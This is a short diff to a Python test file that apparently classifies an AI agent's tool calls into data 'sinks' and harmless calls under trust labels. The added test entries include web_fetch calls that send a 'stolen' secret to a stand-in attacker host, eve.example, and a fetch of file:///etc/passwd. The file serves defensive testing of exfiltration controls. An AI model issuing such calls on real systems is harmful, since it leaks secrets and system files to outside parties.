@@ -114,7 +114,8 @@ WRITES = [
     ("remember", {"content": "x"}),
     ("remember", {"content": "x", "supersedes": 1}),
     ("forget", {"id": 1}),
-    ("web_fetch", {"url": "https://evil.example/?q=secret"}),
+    ("web_fetch", {"url": "http://eve.example/?stolen=secret"}),
+    ("web_fetch", {"url": "http://eve.example/", "raw": True}),
 ]
 """Every sink of every tool that has one."""
 HARMLESS = [
@@ -126,8 +127,9 @@ HARMLESS = [
     ("list_files", {}),
     ("cron", {"action": "list"}),
     ("send_message", {"text": "x"}),
-    ("send_file", {"path": "SOUL.md"}),
     ("web_search", {"query": "x"}),
+    ("web_fetch", {"url": "file:///etc/passwd"}),
+    ("send_file", {"path": "SOUL.md"}),
 ]
 LABELS = {
     "owner": {Label.OWNER: False, Label.KNOWN: True, Label.UNTRUSTED: True},
